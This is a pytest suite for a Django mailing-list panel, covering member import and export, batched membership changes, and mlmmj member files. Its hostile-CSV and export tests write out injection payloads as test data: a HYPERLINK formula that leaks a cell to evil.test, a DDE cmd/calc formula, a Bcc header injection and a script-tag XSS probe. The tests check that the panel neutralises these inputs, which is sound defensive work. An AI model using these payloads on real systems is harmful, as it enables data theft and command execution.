"""A list's members in bulk: import (paste, CSV) and its refusals, the CSV export, the batched
intake of membership changed by mail, the document's members, and the host's member files
written the way mlmmj writes them (compared with the real mlmmj-sub / mlmmj-unsub)."""

from __future__ import annotations

import csv
import io
import os
import random
import shutil
import sqlite3
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from hosting.audit import Action
from hosting.csvfiles import safe_cell
from hosting.models import AuditEvent, Domain
from hostlink import snapshot
from lists import imports, tasks
from lists.models import ImportState, ListMember, MailingList, MemberImport, MemberKind
from lists.reports import record_list_changes
from mail.validators import normalize_address
from mailhost import list_members, maps
from mailhost.list_members import membership_changes, read_members, sync_members, write_members
from mailhost.lists import MLMMJ, ListHost, available
from screens.views.imports import ImportForm
from tests.conftest import Cast, client_for

DA = "domain_admin_a"


@pytest.fixture
def news(cast: Cast) -> MailingList:
    return MailingList.objects.create(domain=cast.a.domain, name="news", owner=f"postmaster@{cast.a.domain.name}")


def url(name: str, news: MailingList, **extra: Any) -> str:
    return reverse(f"screens:{name}", kwargs={"pk": news.domain_id, "obj": news.pk, **extra})


def revision(news: MailingList) -> int:
    return Domain.objects.values_list("revision", flat=True).get(pk=news.domain_id)


def members(news: MailingList, kind: str = MemberKind.SUBSCRIBER) -> set[str]:
    return set(ListMember.objects.filter(mailing_list=news, kind=kind).values_list("address", flat=True))


def import_events(news: MailingList) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=Action.LIST_MEMBER_IMPORT, target_id=str(news.pk)))


# --------------------------------------------------------------------------------------------------
# Import through the page
# --------------------------------------------------------------------------------------------------


def test_a_paste_reports_added_present_and_invalid_lines_with_one_revision_and_one_audit_row(
        cast: Cast, news: MailingList) -> None:
    ListMember.objects.create(mailing_list=news, address="old@elsewhere.test")
    before = revision(news)
    pasted = "\n".join([
        "New@Example.test", "Jean Dupont <jean@example.test>", '"Dupont, Jean" <jean2@example.test>,',
        "old@elsewhere.test", "new@example.test", "", "   ", "<script>alert(1)</script>", "not an address",
        f"news@{news.domain.name}",  # the list itself: mlmmj refuses it
    ])
    client = client_for(cast, DA)
    response = client.post(url("member_import", news), {"kind": "subscriber", "text": pasted})
    job = MemberImport.objects.get(mailing_list=news)
    assert response.status_code == 302 and response["Location"] == url("member_import_status", news, job=job.pk)
    assert members(news) == {"old@elsewhere.test", "new@example.test", "jean@example.test", "jean2@example.test"}
    assert (job.state, job.total, job.added, job.present) == (ImportState.DONE, 8, 3, 2)
    assert job.invalid == [[8, "<script>alert(1)</script>"], [9, "not an address"], [10, f"news@{news.domain.name}"]]
    assert revision(news) == before + 1
    (event,) = import_events(news)
    assert event.detail == {"kind": "subscriber", "lines": 8, "added": 3, "present": 2, "invalid": 3}
    page = client.get(response["Location"]).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert" not in page
    assert 'http-equiv="refresh"' not in page  # done: no refresh


def test_an_import_that_adds_nobody_changes_no_revision(cast: Cast, news: MailingList) -> None:
    ListMember.objects.create(mailing_list=news, address="old@elsewhere.test")
    before = revision(news)
    client_for(cast, DA).post(url("member_import", news), {"kind": "subscriber", "text": "old@elsewhere.test\nx"})
    assert revision(news) == before
    assert len(import_events(news)) == 1


def test_the_kind_chosen_is_the_kind_imported(cast: Cast, news: MailingList) -> None:
    client_for(cast, DA).post(url("member_import", news), {"kind": "moderator", "text": "mod@example.test"})
    assert members(news, MemberKind.MODERATOR) == {"mod@example.test"} and not members(news)


def upload(content: bytes, name: str = "members.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/csv")


def test_a_csv_upload_finds_the_address_column_through_bom_quotes_and_separators(
        cast: Cast, news: MailingList) -> None:
    semicolons = ('\ufeffNom;"E-mail";Ville\r\n"Dupont; Jean";jean@example.test;Paris\r\n'
                  'Marie;"MARIE@example.test";Lyon\r\n')
    client = client_for(cast, DA)
    client.post(url("member_import", news), {"kind": "subscriber", "file": upload(semicolons.encode())})
    assert members(news) == {"jean@example.test", "marie@example.test"}
    job = MemberImport.objects.get(mailing_list=news)
    assert (job.total, job.added, job.invalid) == (2, 2, [])  # the header row is not a line of the report
    commas = "id,address,name\n1,paul@example.test,\"Paul, Jr\"\n2,,nobody\n3,zoe@example.test,Zoé\n"
    client.post(url("member_import", news), {"kind": "digest", "file": upload(commas.encode())})
    assert members(news, MemberKind.DIGEST) == {"paul@example.test", "zoe@example.test"}
    tabs = "alice@example.test\tAlice\nbob@example.test\tBob\n"  # no header: the first row is an address
    client.post(url("member_import", news), {"kind": "moderator", "file": upload(tabs.encode())})
    assert members(news, MemberKind.MODERATOR) == {"alice@example.test", "bob@example.test"}


def test_a_csv_that_is_not_utf8_still_gives_its_addresses(cast: Cast, news: MailingList) -> None:
    windows = "Nom;Courriel\nÉmile Zola;emile@example.test\nGarbage \x81\x8d;\xe9t\xe9@example.test\n".encode("cp1252",
                                                                                                          "replace")
    client_for(cast, DA).post(url("member_import", news), {"kind": "subscriber", "file": upload(windows)})
    job = MemberImport.objects.get(mailing_list=news)
    assert members(news) == {"emile@example.test"}
    assert [number for number, _text in job.invalid] == [3]


def test_a_hostile_csv_adds_its_valid_addresses_and_nothing_else(cast: Cast, news: MailingList) -> None:
    hostile = b"\n".join([
        b"email;note",
        b'=HYPERLINK("http://evil.test/?"&A1);=1+2',
        b"ok1@example.test;=cmd|' /C calc'!A0",
        b"ok2@example.test\rBcc: victim@example.test",  # a CR ends the line: the second half is its own line
        b"ok3@example.test\x0bBcc: x@example.test",  # other line breaks stay in the line: invalid
        b"\x00nul@example.test",
        b"a" * 100_000 + b"@example.test",
        b"\xff\xfe\xfd@example.test",
        b"+plus@example.test;-minus",
    ])
    response = client_for(cast, DA).post(url("member_import", news), {"kind": "subscriber", "file": upload(hostile)})
    assert response.status_code == 302
    assert members(news) == {"ok1@example.test", "ok2@example.test", "+plus@example.test"}
    job = MemberImport.objects.get(mailing_list=news)
    assert job.added == 3 and len(job.invalid) == job.total - 3
    assert all(len(text) <= imports.SHOWN_TEXT for _n, text in job.invalid)
    assert "\ufffdnul@example.test" in [text for _n, text in job.invalid]  # a NUL, shown (and storable)


def test_an_oversize_file_is_refused_with_a_clear_error_and_writes_nothing(cast: Cast, news: MailingList) -> None:
    big = b"someone@example.test\n" * (imports.MAX_UPLOAD_BYTES // 21 + 1)
    assert len(big) > imports.MAX_UPLOAD_BYTES
    response = client_for(cast, DA).post(url("member_import", news), {"kind": "subscriber", "file": upload(big)})
    assert response.status_code == 413
    assert "The file is too large (at most 5 MB)." in response.content.decode()
    assert not MemberImport.objects.exists() and not members(news) and not import_events(news)


@pytest.mark.parametrize("data", [{}, {"text": "   "}, {"text": "a@example.test", "file": b"b@example.test"}])
def test_nothing_to_import_or_both_at_once_is_refused(cast: Cast, news: MailingList, data: dict[str, Any]) -> None:
    if "file" in data:
        data = {**data, "file": upload(data["file"])}
    response = client_for(cast, DA).post(url("member_import", news), {"kind": "subscriber", **data})
    assert response.status_code == 400
    assert not MemberImport.objects.exists() and not members(news)


def test_a_long_import_runs_in_the_task_and_shows_its_progress(cast: Cast, news: MailingList,
                                                              django_capture_on_commit_callbacks: Any,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    sent: list[tuple[str, list[Any]]] = []
    monkeypatch.setattr(imports.panel_app, "send_task", lambda name, args: sent.append((name, args)))
    addresses = [f"reader{n}@example{n % 7}.test" for n in range(imports.INLINE_LINES + 500)]
    client = client_for(cast, DA)
    before = revision(news)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url("member_import", news), {"kind": "subscriber", "text": "\n".join(addresses)})
    job = MemberImport.objects.get(mailing_list=news)
    assert (job.state, job.total, job.done) == (ImportState.RUNNING, len(addresses), 0)
    assert not members(news) and revision(news) == before  # nothing before the task runs
    assert 'http-equiv="refresh"' in client.get(response["Location"]).content.decode()
    ((name, args),) = sent
    assert name == imports.TASK == tasks.import_members.name
    progress: list[int] = []
    batch = imports._Tally.batch
    monkeypatch.setattr(imports, "BATCH", 1000)

    def watched(tally: Any, rows: list[Any]) -> None:
        batch(tally, rows)
        progress.append(tally.done)

    monkeypatch.setattr(imports._Tally, "batch", watched)
    tasks.import_members(*args)  # what the panel's worker runs
    job.refresh_from_db()
    assert progress == [1000, 2000, 2500]
    assert (job.state, job.done, job.added) == (ImportState.DONE, 2500, 2500) and len(members(news)) == 2500
    assert revision(news) == before + 1
    (event,) = import_events(news)
    assert event.actor_label == cast.a.postmaster.address and event.detail["added"] == 2500
    tasks.import_members(*args)  # a redelivered message: the import is done, nothing changes
    assert len(import_events(news)) == 1
    assert 'http-equiv="refresh"' not in client.get(response["Location"]).content.decode()


def test_a_long_import_that_fails_keeps_what_it_added_and_says_it_stopped(
        cast: Cast, news: MailingList, django_capture_on_commit_callbacks: Any, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    """A batch that fails (here the database refusing the second one) stops the import: the first
    batch stays, with its revision and audit row; the page says so in the user's language, without
    the technical error (that goes to the log, and to support on the import's row)."""
    sent: list[list[Any]] = []
    monkeypatch.setattr(imports.panel_app, "send_task", lambda name, args: sent.append(args))
    monkeypatch.setattr(imports, "BATCH", 1000)
    addresses = [f"reader{n}@example.test" for n in range(imports.INLINE_LINES + 500)]
    client = client_for(cast, DA, "fr")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url("member_import", news), {"kind": "subscriber", "text": "\n".join(addresses)})
    batch = imports._Tally.batch

    def second_fails(tally: Any, rows: list[Any]) -> None:
        if tally.done:
            raise RuntimeError("secret internal detail")
        batch(tally, rows)

    monkeypatch.setattr(imports._Tally, "batch", second_fails)
    tasks.import_members(*sent[0])
    job = MemberImport.objects.get(mailing_list=news)
    assert (job.state, job.added, len(members(news))) == (ImportState.FAILED, 1000, 1000)
    assert "secret internal detail" in job.error and "secret internal detail" in caplog.text
    assert len(import_events(news)) == 1
    page = client.get(response["Location"]).content.decode()
    assert "est arrêté avant la fin" in page and "secret internal detail" not in page


DOMAINS = st.sampled_from(["example.test", "EXAMPLE.test", "bücher.test", "ex_ample.test", "a", "",
                           "xn--bcher-kva.test", "example.test.", "раураl.com"])
LOCALS = st.text(alphabet=st.sampled_from(list("aZ0._+-@ \"<>é\t")), max_size=12)


@settings(max_examples=300, deadline=None)
@given(local=LOCALS, domain=DOMAINS)
def test_the_import_normalises_as_normalize_address(local: str, domain: str) -> None:
    text = f"{local}@{domain}"
    try:
        expected = normalize_address(text)
    except ValidationError:
        expected = None
    try:
        got = imports.normalize(text)
    except ValidationError:
        got = None
    assert got == expected


# --------------------------------------------------------------------------------------------------
# Export
# --------------------------------------------------------------------------------------------------


def test_the_export_streams_the_kind_chosen_with_formulas_neutralised(cast: Cast, news: MailingList) -> None:
    hostile = ["=HYPERLINK(\"http://evil.test\")@x.test", "+1+2@example.test", "-2@example.test", "@sum@x.test",
               "\tx@example.test", "\rx@example.test", "plain@example.test"]
    for address in hostile:
        ListMember.objects.create(mailing_list=news, address=address)
    ListMember.objects.create(mailing_list=news, address="mod@example.test", kind=MemberKind.MODERATOR)
    response = client_for(cast, DA).get(url("member_export", news) + "?kind=subscriber")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"] == f'attachment; filename="news@{news.domain.name}-subscriber.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["address", "kind", "since"]
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert sorted(row[0].lstrip("'") for row in rows[1:]) == sorted(hostile)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'+1+2@example.test" in cells and "plain@example.test" in cells
    assert "mod@example.test" not in cells


def test_safe_cell_leaves_plain_cells_alone() -> None:
    assert safe_cell("a@b.test") == "a@b.test" and safe_cell("=1") == "'=1" and safe_cell("") == ""


@pytest.mark.parametrize("role", ["domain_admin_b", "customer_b", "reseller_b"])
def test_an_outsider_gets_404_on_each_url(cast: Cast, news: MailingList, role: str) -> None:
    job = MemberImport.objects.create(mailing_list=news, state=ImportState.DONE)
    client = client_for(cast, role)
    for name, extra in (("member_import", {}), ("member_import_status", {"job": job.pk}), ("member_export", {})):
        assert client.get(url(name, news, **extra)).status_code == 404, name
    assert client.post(url("member_import", news), {"kind": "subscriber", "text": "x@example.test"}).status_code == 404
    assert not members(news)


def test_an_import_of_another_list_is_not_shown_under_this_one(cast: Cast, news: MailingList) -> None:
    other = MailingList.objects.create(domain=cast.a.domain, name="other", owner="o@example.test")
    job = MemberImport.objects.create(mailing_list=other, state=ImportState.DONE)
    assert client_for(cast, DA).get(url("member_import_status", news, job=job.pk)).status_code == 404


# --------------------------------------------------------------------------------------------------
# The panel's side of the host: changes by mail taken in batches, members in the document
# --------------------------------------------------------------------------------------------------


def test_changes_by_mail_are_taken_in_batches_with_one_revision_per_domain(cast: Cast, news: MailingList) -> None:
    other = MailingList.objects.create(domain=cast.a.domain, name="other", owner="o@example.test")
    ListMember.objects.create(mailing_list=news, address="leaving@example.test")

    def changes(n: int) -> list[dict[str, Any]]:
        return [
            {"domain": news.domain.name, "list": "news", "kind": "subscriber",
             "added": [f"in{i}-{n}@example.test" for i in range(n)] + ["O'Neil@Example.test", "bad\n@x"],
             "removed": ["leaving@example.test"]},
            {"domain": news.domain.name, "list": "other", "kind": "digest", "added": [f"d{n}@example.test"],
             "removed": []},
            {"domain": news.domain.name, "list": "news", "kind": "moderator", "added": ["no@example.test"]},
            {"domain": "unknown.test", "list": "news", "kind": "subscriber", "added": ["x@example.test"]},
        ]

    before = revision(news)
    with CaptureQueriesContext(connection) as few:
        assert record_list_changes(host="mx1", changes=changes(3)) == 2
    assert revision(news) == before + 1
    assert members(news) == {f"in{i}-3@example.test" for i in range(3)}  # invalid ones left out, leaving@ gone
    assert members(other, MemberKind.DIGEST) == {"d3@example.test"} and not members(news, MemberKind.MODERATOR)
    with CaptureQueriesContext(connection) as many:
        record_list_changes(host="mx1", changes=changes(3000))
    assert len(members(news)) == 3003
    assert len(many) < len(few) + 3000 / 100  # the bulk insert's batches, not a query per address
    assert record_list_changes(host="mx2", changes=changes(1)) == 0  # another host's report: not its lists


def test_the_document_reads_all_members_in_one_query(cast: Cast, news: MailingList) -> None:
    def queries() -> int:
        domain = Domain.objects.get(pk=news.domain_id)
        with CaptureQueriesContext(connection) as captured:
            document = snapshot.build(domain)
        assert document["lists"]
        return len(captured)

    ListMember.objects.create(mailing_list=news, address="a@example.test")
    one = queries()
    for n in range(3):
        extra = MailingList.objects.create(domain=news.domain, name=f"extra{n}", owner="o@example.test")
        ListMember.objects.bulk_create([ListMember(mailing_list=extra, address=f"m{i}@example.test", kind=kind)
                                        for i in range(50) for kind in MemberKind.values])
    assert queries() == one
    document = snapshot.build(Domain.objects.get(pk=news.domain_id))
    extra0 = next(ml for ml in document["lists"] if ml["name"] == "extra0")
    assert extra0["subscribers"] == sorted(f"m{i}@example.test" for i in range(50)) == extra0["moderators"]


# --------------------------------------------------------------------------------------------------
# The host: mlmmj's member files
# --------------------------------------------------------------------------------------------------

needs_mlmmj = pytest.mark.skipif(not available(), reason="mlmmj is not installed")


@pytest.fixture
def mlmmj_root() -> Iterator[Path]:
    root = Path(tempfile.mkdtemp(prefix="mailpanel-members-"))
    root.chmod(0o755)
    yield root
    shutil.rmtree(root, ignore_errors=True)


def make_list(root: Path, name: str, domain: str = "example.test") -> Path:
    (root / domain).mkdir(exist_ok=True)
    subprocess.run([str(MLMMJ / "mlmmj-make-ml"), "-L", name, "-s", str(root / domain)], check=True,
                   input=f"{domain}\nowner@{domain}\nen\n", text=True, capture_output=True)
    path = root / domain / name
    if os.geteuid() == 0:
        shutil.chown(path, "list", "list")
        for folder, dirs, files in os.walk(path):
            for entry in dirs + files:
                shutil.chown(os.path.join(folder, entry), "list", "list")
    return path


def mlmmj(program: str, path: Path, address: str, *options: str) -> None:
    subprocess.run([str(MLMMJ / program), "-L", str(path), "-a", address, *options], check=True, capture_output=True)


def files(path: Path) -> dict[str, tuple[bytes, int, int]]:
    """Each member file: content, mode and owner (mlmmj keeps root's group: compared apart)."""
    found = {}
    for folder in ("subscribers.d", "digesters.d", "nomailsubs.d"):
        for entry in sorted((path / folder).iterdir()):
            info = entry.lstat()
            found[f"{folder}/{os.fsencode(entry.name)!r}"] = (entry.read_bytes(), info.st_mode, info.st_uid)
    return found


@needs_mlmmj
def test_direct_writes_leave_the_files_mlmmj_sub_and_unsub_leave(mlmmj_root: Path) -> None:
    """Each kind from its own pool: mlmmj-sub moves an address from one version to another (a
    digest subscription ends the normal one), which the panel's kinds do not do."""
    (mlmmj_root / "one").mkdir()
    (mlmmj_root / "two").mkdir()
    by_mlmmj, direct = make_list(mlmmj_root / "one", "news"), make_list(mlmmj_root / "two", "news")
    rng = random.Random(20261202)
    pools = {kind: [f"{first}{n}.{kind}@Example{n % 3}.test" for n, first in enumerate("aAbz09_-+=&" * 6)]
             + ["news@example.test", "news@example.test.other"]  # mlmmj refuses the list's address and its prefix
             for kind in ("subscriber", "digest")}
    current: dict[str, set[str]] = {"subscriber": set(), "digest": set()}
    for _step in range(6):
        for kind, option in (("subscriber", ["-N"]), ("digest", ["-d"])):
            add = sorted(a for a in rng.sample(pools[kind], 12) if a.lower() not in current[kind])
            remove = sorted(rng.sample(sorted(current[kind]), min(4, len(current[kind]))))
            for address in add:
                mlmmj("mlmmj-sub", by_mlmmj, address, "-f", "-q", "-s", *(["-d"] if kind == "digest" else []))
            for address in remove:
                mlmmj("mlmmj-unsub", by_mlmmj, address, "-q", "-s", *option)
            write_members(direct, kind, add, remove)
            current[kind] = (current[kind] | {a.lower() for a in add if not a.startswith("news@")}) - set(remove)
        assert files(direct) == files(by_mlmmj)
    for kind in ("subscriber", "digest"):
        assert read_members(direct, kind) == read_members(by_mlmmj, kind)
        listed = subprocess.run([str(MLMMJ / "mlmmj-list"), "-L", str(direct), *(["-d"] if kind == "digest" else [])],
                                check=True, capture_output=True, text=True).stdout.split()
        assert set(listed) == read_members(direct, kind)
    assert not [p for p in direct.rglob("*") if p.name.endswith((".lock", ".new"))]


def maps_db(tmp_path: Path) -> sqlite3.Connection:
    maps.create(tmp_path / "maps.sqlite")
    return maps.connect(tmp_path / "maps.sqlite")


def document_list(subscribers: list[str], digest: list[str] | None = None) -> dict[str, Any]:
    return {"name": "news", "owner": "owner@example.test", "subscribers": subscribers,
            "digest_subscribers": digest or [], "moderators": []}


@needs_mlmmj
def test_changes_by_mail_and_by_bounce_are_reported_once(mlmmj_root: Path, tmp_path: Path) -> None:
    path = make_list(mlmmj_root, "news")
    host, db = ListHost(mlmmj_root), maps_db(tmp_path)
    sync_members(host, db, "example.test", document_list(["a@example.test", "b@example.test", "ghost@example.test"],
                                                          ["ghost@example.test"]))
    assert membership_changes(host, db) == []
    mlmmj("mlmmj-sub", path, "New@Example.test", "-f", "-q", "-s")  # what list+subscribe@ runs
    mlmmj("mlmmj-unsub", path, "b@example.test", "-q", "-s")
    mlmmj("mlmmj-sub", path, "o'neil@example.test", "-f", "-q", "-s")  # the panel's rules refuse it
    # ghost@ has bounced for longer than bouncelife and mlmmj's probe wait: mlmmj-maintd removes it.
    (path / "bounce" / "ghost=example.test").write_text(f"1:{int(time.time()) - 30 * 86400} # 5.1.1 unknown\n")
    subprocess.run([str(MLMMJ / "mlmmj-maintd"), "-F", "-L", str(path)], capture_output=True, check=False)
    assert "ghost@example.test" not in read_members(path, "subscriber")
    changes = membership_changes(host, db)
    assert sorted(changes, key=lambda c: c["kind"]) == [
        {"domain": "example.test", "list": "news", "kind": "digest", "added": [], "removed": ["ghost@example.test"]},
        {"domain": "example.test", "list": "news", "kind": "subscriber", "added": ["new@example.test"],
         "removed": ["b@example.test", "ghost@example.test"], "refused": ["o'neil@example.test"]},
    ]
    # o'neil@, which the panel could neither show nor remove, is off the list (issue 15, item 5).
    assert read_members(path, "subscriber") == {"a@example.test", "new@example.test"}
    assert membership_changes(host, db) == []
    # The panel takes them in; its next document changes nothing.
    sync_members(host, db, "example.test", document_list(["a@example.test", "new@example.test"]))
    assert read_members(path, "subscriber") == {"a@example.test", "new@example.test"}
    assert membership_changes(host, db) == []


@needs_mlmmj
def test_a_half_written_line_and_mlmmjs_work_files_are_not_read(mlmmj_root: Path) -> None:
    path = make_list(mlmmj_root, "news")
    (path / "subscribers.d" / "a").write_text("a@example.test\nab@exam")  # an append in progress
    (path / "subscribers.d" / "b.new").write_text("b@example.test\n")  # an unsub between write and rename
    (path / "subscribers.d" / ".c.lock").write_text("")
    assert read_members(path, "subscriber") == {"a@example.test"}


@needs_mlmmj
def test_fifty_thousand_members_land_in_the_files(mlmmj_root: Path, tmp_path: Path) -> None:
    path = make_list(mlmmj_root, "news")
    host, db = ListHost(mlmmj_root), maps_db(tmp_path)
    many = [f"m{n}@example{n % 10}.test" for n in range(50_000)]
    sync_members(host, db, "example.test", document_list(many))  # no process per address (bench/lists_bench.py)
    assert read_members(path, "subscriber") == set(many)
    assert list_members._applied(db, "example.test", "news")["subscriber"] == set(many)


def test_the_size_bound_holds_in_the_form_and_in_the_service(cast: Cast, news: MailingList) -> None:
    big = upload(b"x" * (imports.MAX_UPLOAD_BYTES + 1))
    form = ImportForm({"kind": "subscriber"}, {"file": big})
    assert not form.is_valid() and form.errors.as_data()["file"][0].code == "too_large"
    with pytest.raises(ValidationError) as refused:
        imports.member_import(mailing_list=news, kind="subscriber", text="x" * (imports.MAX_UPLOAD_BYTES + 1),
                              acting_user=cast.operator)
    assert refused.value.code == "too_large" and not MemberImport.objects.exists()
